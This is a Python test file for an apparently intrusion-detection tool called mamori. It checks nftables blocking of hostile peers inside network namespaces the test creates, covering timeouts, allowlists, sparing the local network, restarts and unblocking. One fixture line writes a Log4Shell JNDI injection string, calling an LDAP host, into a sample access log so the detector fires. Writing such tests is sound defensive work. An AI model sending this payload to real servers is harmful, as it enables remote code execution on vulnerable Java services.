"""Opt-in blocking with nftables, inside network namespaces the test creates: a peer in the
far namespace connects to a server in the near one before, cannot after it is blocked, and
can again once the set element's timeout passes (IPv4 and IPv6). The peer connects from
addresses routed through the far namespace (ROUTED4/ROUTED6): the veth's own network is the
near host's LAN, and that is never blocked. Blocks persist in the store across restarts of
a real ``mamori watch`` and are lifted by ``mamori watch unblock``. The root namespace's
firewall is never touched: every nft command runs through ``ip netns exec``."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

import pytest

from mamori.model.watch import Danger, Incident
from mamori.watch.block import Blocker, NetnsRunner
from mamori.watch.settings import BlockSettings, WatchSettings
from mamori.watch.sinks import AlertRouter
from netns import veth_pair

pytestmark = pytest.mark.root

NEAR4, FAR4, NEAR6, FAR6 = "10.145.0.1", "10.145.0.2", "fd00:145::1", "fd00:145::2"
# Addresses of the far namespace beyond the near host's LAN (routed through FAR4/FAR6).
ROUTED4, ROUTED6, OTHER4 = "10.146.0.2", "fd00:146::2", "10.146.0.3"
GATEWAY4 = "10.147.0.1"  # the near namespace's default gateway (onlink, not in its LAN)
PORT = 8080
T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)

SERVER = textwrap.dedent(f"""
    import os, socket, sys, threading
    def serve(family, host):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((host, {PORT})); s.listen(64)
        while True:
            c, _ = s.accept(); c.close()
    for fam, host in ((socket.AF_INET, "{NEAR4}"), (socket.AF_INET6, "{NEAR6}")):
        threading.Thread(target=serve, args=(fam, host), daemon=True).start()
    print("ready", flush=True)
    sys.stdin.read()  # the test closes stdin to stop us
""")


@dataclass
class Pair:
    near: str
    far: str
    procs: list[subprocess.Popen[str]] = field(default_factory=list)

    def reachable(self, host: str, timeout: float = 1.0, src: str | None = None) -> bool:
        src = src or (ROUTED6 if ":" in host else ROUTED4)
        code = (f"import socket; socket.create_connection(({host!r}, {PORT}), "
                f"timeout={timeout}, source_address=({src!r}, 0)).close()")
        proc = subprocess.run(["ip", "netns", "exec", self.far, sys.executable, "-c", code],
                              capture_output=True, timeout=timeout + 10, check=False)
        return proc.returncode == 0

    def nft(self, *args: str) -> str:
        return subprocess.run(["ip", "netns", "exec", self.near, "nft", *args],
                              capture_output=True, text=True, check=True).stdout

    def reset(self) -> None:
        subprocess.run(["ip", "netns", "exec", self.near, "nft", "flush", "ruleset"],
                       capture_output=True, check=False)


@pytest.fixture(scope="module")
def pair() -> Iterator[Pair]:
    if os.geteuid() != 0 or shutil.which("nft") is None or shutil.which("ip") is None:
        pytest.skip("needs root, ip and nft (network namespaces)")
    tag = os.getpid() % 100000
    p = Pair(f"mamori-w-alerts-n{tag}", f"mamori-w-alerts-f{tag}")
    with veth_pair(p.near, p.far, (f"mwan{tag}"[:15], f"mwaf{tag}"[:15]),
                   ([f"{NEAR4}/24", f"{NEAR6}/64"],
                    [f"{FAR4}/24", f"{FAR6}/64", f"{ROUTED4}/32", f"{OTHER4}/32",
                     f"{ROUTED6}/128"]), p.procs):
        dev = f"mwan{tag}"[:15]
        for args in (("route", "add", "10.146.0.0/24", "via", FAR4),
                     ("-6", "route", "add", "fd00:146::/64", "via", FAR6),
                     ("route", "add", "default", "via", GATEWAY4, "dev", dev, "onlink")):
            subprocess.run(["ip", "-n", p.near, *args], check=True, capture_output=True)
        server = subprocess.Popen(
            ["ip", "netns", "exec", p.near, sys.executable, "-c", SERVER],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        p.procs.append(server)
        assert server.stdout is not None and server.stdout.readline().strip() == "ready"
        deadline = time.monotonic() + 10  # the routes work once neighbours are found
        while not (p.reachable(NEAR4) and p.reachable(NEAR6)) and time.monotonic() < deadline:
            time.sleep(0.2)
        yield p


@pytest.fixture
def clean(pair: Pair) -> Iterator[Pair]:
    pair.reset()
    yield pair
    pair.reset()


def blocker(pair: Pair, **options: object) -> Blocker:
    settings = BlockSettings.model_validate({"enabled": True, **options})
    return Blocker(settings, NetnsRunner(pair.near))


def test_blocked_peer_cannot_connect_until_the_timeout_passes(clean: Pair) -> None:
    assert clean.reachable(NEAR4) and clean.reachable(f"{NEAR6}")
    b = blocker(clean, timeout="4s")

    async def block_both() -> list[str]:
        results = await asyncio.gather(b.block(ROUTED4, "test"), b.block(ROUTED6, "test"))
        return [r.text() for r in results]

    t = time.monotonic()
    assert asyncio.run(block_both()) == [f"blocked {ROUTED4} for 4s (test)",
                                         f"blocked {ROUTED6} for 4s (test)"]
    assert sorted(b.listed()) == sorted([ROUTED4, ROUTED6])
    assert not clean.reachable(NEAR4) and not clean.reachable(NEAR6)
    assert b.is_blocked(ROUTED4)
    while not clean.reachable(NEAR4, timeout=0.3) and time.monotonic() - t < 10:
        pass  # each failed try takes the 0.3 s connect timeout
    waited = time.monotonic() - t
    assert 3.0 <= waited < 10, waited
    assert clean.reachable(NEAR6) and b.listed() == []
    ruleset = clean.nft("list", "table", "inet", "mamori")
    assert "ip saddr @watch_block drop" in ruleset and "ip6 saddr @watch_block6 drop" in ruleset


def test_loopback_allowlist_and_garbage_are_never_blocked(clean: Pair) -> None:
    b = blocker(clean, allowlist=["10.146.0.0/30", "fd00:146::2"])
    results = {src: b.block_now(src, "t") for src in (
        "127.0.0.1", "::1", "::ffff:127.0.0.5", ROUTED4, ROUTED6, "0.0.0.0", "224.0.0.1",
        "nope", "10.146.0.9", "::ffff:10.146.0.10")}
    skipped = {src: r.skipped for src, r in results.items() if not r.ok}
    assert skipped == {
        "127.0.0.1": "loopback is never blocked (allow_loopback = false)",
        "::1": "loopback is never blocked (allow_loopback = false)",
        "::ffff:127.0.0.5": "loopback is never blocked (allow_loopback = false)",
        ROUTED4: "in the allowlist (10.146.0.0/30)",
        ROUTED6: "in the allowlist (fd00:146::2/128)",
        "0.0.0.0": "unspecified or multicast address",
        "224.0.0.1": "unspecified or multicast address",
        "nope": "not an IP address",
    }
    assert results["::ffff:10.146.0.10"].src == "10.146.0.10"  # a mapped address is IPv4
    assert sorted(b.listed()) == ["10.146.0.10", "10.146.0.9"]
    assert clean.reachable(NEAR4)  # the allowlisted peer still gets in
    again = b.block_now("10.146.0.9")
    assert again.skipped == "already blocked"
    opt_in = blocker(clean, allow_loopback=True)
    assert opt_in.block_now("127.0.0.9").ok


def test_existing_ruleset_is_completed_not_duplicated(clean: Pair) -> None:
    clean.nft("add", "table", "inet", "mamori")
    clean.nft("add", "chain", "inet", "mamori", "other")
    clean.nft("add", "rule", "inet", "mamori", "other", "tcp", "dport", "22", "accept")
    for _ in range(2):
        assert blocker(clean).ensure() is None
    listing = json.loads(clean.nft("-j", "list", "table", "inet", "mamori"))["nftables"]
    rules = [i["rule"] for i in listing if "rule" in i]
    assert sorted(r["chain"] for r in rules) == ["other", "watch_input", "watch_input"]
    sets = {i["set"]["name"]: i["set"] for i in listing if "set" in i}
    assert sets["watch_block"]["type"] == "ipv4_addr" and "timeout" in sets["watch_block"]["flags"]
    assert sets["watch_block6"]["type"] == "ipv6_addr"
    chain = next(i["chain"] for i in listing if i.get("chain", {}).get("name") == "watch_input")
    assert (chain["hook"], chain["prio"], chain["policy"]) == ("input", -10, "accept")


def test_router_blocks_sources_of_serious_incidents(clean: Pair, tmp_path: Path) -> None:
    out = tmp_path / "alerts.jsonl"
    ws = WatchSettings.from_table({
        "block": {"enabled": True, "min_danger": "high", "timeout": "1h"},
        "alerts": [{"type": "jsonl", "path": str(out), "types": ["incident", "block"]}],
    })
    router = AlertRouter.from_settings(ws, blocker=Blocker(ws.block, NetnsRunner(clean.near)))

    def incident(src: str, danger: Danger) -> Incident:
        return Incident(src, "exploit.log4shell", danger, T0, T0, 3)

    async def go() -> None:
        await router.start()
        router.publish(incident(ROUTED4, Danger.MEDIUM), opened=True)
        router.publish(incident("127.0.0.1", Danger.CRITICAL), opened=True)
        router.publish(incident(ROUTED4, Danger.HIGH))
        await router.aclose()

    asyncio.run(go())
    assert clean.reachable(NEAR6) and not clean.reachable(NEAR4, timeout=0.5)
    got = [json.loads(line) for line in out.read_text().splitlines()]
    notices = [d for d in got if d["schema"] == "mamori.notice/1"]
    assert [(n["kind"], n["src"], n["text"]) for n in notices] == [
        ("blocked", ROUTED4, f"blocked {ROUTED4} for 1h (exploit.log4shell (high))")]
    assert sorted((r.src, r.skipped) for r in router.block_results) == [
        (ROUTED4, None), ("127.0.0.1", "loopback is never blocked (allow_loopback = false)")]


def test_a_failing_nft_is_reported_not_raised(clean: Pair, tmp_path: Path) -> None:
    b = blocker(clean, nft="/nonexistent/nft")
    result = b.block_now(ROUTED4, "t")
    assert not result.ok and result.error is not None and "nonexistent" in result.error
    assert result.text().startswith(f"could not block {ROUTED4}: ")
    assert clean.reachable(NEAR4)


def test_own_lan_gateway_and_never_block_are_never_blocked(clean: Pair) -> None:
    b = blocker(clean, never_block=["10.146.0.2"])
    results = {src: b.block_now(src, "t") for src in (
        FAR4, "10.145.0.77", FAR6, "fd00:145::99", GATEWAY4, ROUTED4, OTHER4)}
    dev = next(iter(b.host_networks().networks))[1]  # type: ignore[union-attr]
    assert {src: r.skipped for src, r in results.items()} == {
        FAR4: f"in the host's own network (10.145.0.0/24 on {dev})",
        "10.145.0.77": f"in the host's own network (10.145.0.0/24 on {dev})",
        FAR6: f"in the host's own network (fd00:145::/64 on {dev})",
        "fd00:145::99": f"in the host's own network (fd00:145::/64 on {dev})",
        GATEWAY4: f"the default gateway ({GATEWAY4})",
        ROUTED4: "in never_block (10.146.0.2/32)",
        OTHER4: None,
    }
    assert b.listed() == [OTHER4]
    assert clean.reachable(NEAR4, src=FAR4) and clean.reachable(NEAR4, src=ROUTED4)
    assert not clean.reachable(NEAR4, src=OTHER4, timeout=0.5)


def test_no_block_when_the_host_networks_cannot_be_read(clean: Pair) -> None:
    result = blocker(clean, ip="/nonexistent/ip").block_now(ROUTED4, "t")
    assert not result.ok and result.skipped is not None
    assert result.skipped.startswith("cannot tell the host's own networks (")
    assert clean.reachable(NEAR4)


def _mamori(pair: Pair, *args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["ip", "netns", "exec", pair.near, sys.executable, "-m", "mamori",
                           *args], capture_output=True, text=True, timeout=120, env=env,
                          check=False)


def test_blocks_survive_a_restart_and_unblock_lifts_them(clean: Pair, tmp_path: Path) -> None:
    settings = tmp_path / "settings.toml"
    settings.write_text("[watch.block]\ntimeout = \"2h\"\n")
    env = {**os.environ, "MAMORI_SETTINGS": str(settings), "MAMORI_DB": str(tmp_path / "w.db")}
    log = tmp_path / "access.log"
    log.write_text(f'{ROUTED4} - - [01/May/2024:12:00:00 +0000] "GET /?x=${{jndi:ldap://'
                   f'10.146.0.2/a}} HTTP/1.1" 404 0 "-" "-"\n')
    run = _mamori(clean, "watch", "--read-once", "--block", "--access-log", str(log), env=env)
    assert run.returncode == 0, run.stderr
    assert ROUTED4 in clean.nft("list", "set", "inet", "mamori", "watch_block")
    assert not clean.reachable(NEAR4, timeout=0.5)

    clean.reset()  # a reboot: the kernel forgot the set
    assert clean.reachable(NEAR4)
    watch = subprocess.Popen(
        ["ip", "netns", "exec", clean.near, sys.executable, "-m", "mamori", "watch", "--block",
         "--decoy", f"{NEAR4}:2323"], env=env, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 30
        listing = ""
        while time.monotonic() < deadline and ROUTED4 not in listing:
            time.sleep(0.2)
            listing = subprocess.run(
                ["ip", "netns", "exec", clean.near, "nft", "list", "set", "inet", "mamori",
                 "watch_block"], capture_output=True, text=True, check=False).stdout
        assert ROUTED4 in listing and "expires 1h59m" in listing, listing
        assert not clean.reachable(NEAR4, timeout=0.5)
    finally:
        watch.terminate()
        _, err = watch.communicate(timeout=30)
    assert f"restored: blocked {ROUTED4} for 1h59m" in err

    shown = _mamori(clean, "watch", "blocked", "--format", "json", env=env)
    assert shown.returncode == 0, shown.stderr
    [entry] = json.loads(shown.stdout)
    assert (entry["src"], entry["reason"]) == (ROUTED4, "exploit.log4shell (high)")
    assert isinstance(entry["incident"], int) and 7000 < entry["seconds_left"] <= 7200
    table = _mamori(clean, "watch", "blocked", env=env).stdout
    assert table.splitlines()[0].split() == ["SOURCE", "WHY", "INCIDENT", "UNTIL"]
    assert ROUTED4 in table

    lifted = _mamori(clean, "watch", "unblock", ROUTED4, env=env)
    assert lifted.returncode == 0, lifted.stderr
    assert lifted.stdout.strip() == (
        f"unblocked {ROUTED4}: removed from the nftables set and the store")
    assert ROUTED4 not in clean.nft("list", "set", "inet", "mamori", "watch_block")
    assert clean.reachable(NEAR4)
    assert json.loads(_mamori(clean, "watch", "blocked", "-f", "json", env=env).stdout) == []
    again = _mamori(clean, "watch", "unblock", ROUTED4, env=env)
    assert (again.returncode, again.stdout) == (2, "")
    assert again.stderr.strip() == f"mamori: error: {ROUTED4} is not blocked"
    bad = _mamori(clean, "watch", "unblock", "nope", env=env)
    assert (bad.returncode, bad.stderr.strip()) == (
        2, "mamori: error: 'nope' is not an IP address")
